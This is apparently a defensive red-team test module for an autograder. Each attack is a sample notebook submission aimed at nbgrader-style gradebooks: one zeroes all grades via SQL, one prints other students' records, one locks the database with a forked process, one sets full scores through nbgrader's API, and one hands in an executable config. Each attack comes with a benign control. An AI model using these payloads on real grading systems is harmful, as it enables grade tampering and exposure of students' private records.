"""The gradebook: read, changed, locked or damaged from inside a submission."""

from __future__ import annotations

from autograder.redteam.attack import Attack, Category, Cell, HandedIn, System
from autograder.redteam.attacks.answers import Q4_RIGHT

CLASS = Category.GRADEBOOK
NOT_OTTER = frozenset({System.AUTOGRADER, System.NBGRADER})
FIND = """
import os, sqlite3, sys
from pathlib import Path
books = [p for place in (Path.cwd(), *Path.cwd().parents) for p in place.glob("gradebook.db")]
"""

ATTACKS = (
    Attack(
        "every-grade-rewritten",
        CLASS,
        "an SQL statement in a cell changes the grades of the class",
        HandedIn(cells=(Cell(FIND + """
for book in books:
    connection = sqlite3.connect(book, timeout=2)
    connection.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    connection.commit()
"""),)),
        HandedIn(cells=(Cell("import sqlite3\nsqlite3.connect(':memory:').execute('CREATE TABLE mine (x)')"),)),
        systems=NOT_OTTER,
    ),
    Attack(
        "grades-of-others-read",
        CLASS,
        "what the gradebook says of another student is printed",
        HandedIn(cells=(Cell(FIND + """
for book in books:
    connection = sqlite3.connect(f"file:{book}?mode=ro", uri=True, timeout=2)
    for (table,) in connection.execute("SELECT name FROM sqlite_master WHERE type='table'").fetchall():
        print(connection.execute(f"SELECT * FROM {table}").fetchall())
"""),)),
        HandedIn(cells=(Cell("import sqlite3\nprint(sqlite3.sqlite_version)"),)),
        systems=NOT_OTTER,
    ),
    Attack(
        "gradebook-locked",
        CLASS,
        "a lock held by a submission stops grades from being written",
        HandedIn(cells=(Cell(FIND + """
held = []
for book in books:
    connection = sqlite3.connect(book, timeout=2, isolation_level=None)
    connection.execute("BEGIN EXCLUSIVE")
    held.append(connection)
if books and os.fork() == 0:
    import time
    os.setsid()
    time.sleep(60)
    os._exit(0)
"""),)),
        HandedIn(cells=(Cell("import fcntl\nfcntl.flock(open('mine.lock', 'w'), fcntl.LOCK_EX)"),)),
        systems=NOT_OTTER,
    ),
    Attack(
        "nbgraders-own-api",
        CLASS,
        "nbgrader itself, imported in a cell, sets a manual score or extra credit",
        HandedIn(cells=(Cell(FIND + """
from nbgrader.api import Gradebook
for book in books or [Path("gradebook.db")]:
    try:
        with Gradebook(f"sqlite:///{book}") as gradebook:
            for submission in gradebook.assignment_submissions("{ASSIGNMENT}"):
                for notebook in submission.notebooks:
                    for grade in notebook.grades:
                        grade.manual_score, grade.extra_credit = grade.max_score, 100
            gradebook.db.commit()
    except Exception as error:
        print(error)
"""),)),
        HandedIn({"q4": "books = []\n" + Q4_RIGHT}),
        systems=NOT_OTTER,
    ),
    Attack(
        "gradebook-handed-in",
        CLASS,
        "a gradebook or a configuration handed in with the notebook is used by the grader",
        HandedIn(files={
            "gradebook.db": b"SQLite format 3\x00",
            "nbgrader_config.py": "c = get_config()\nc.CourseDirectory.db_url = 'sqlite:////tmp/redteam.db'\n"
                                  "import os, pathlib\n"
                                  "pathlib.Path(os.environ['HOME'], 'redteam-was-here').write_text('config')\n",
            "jupyter_config.py": "import os, pathlib\n"
                                 "pathlib.Path(os.environ['HOME'], 'redteam-was-here').write_text('config')\n",
        }),
        HandedIn(files={"my_config.py": "answer = 42\n"}),
    ),
)  # fmt: skip
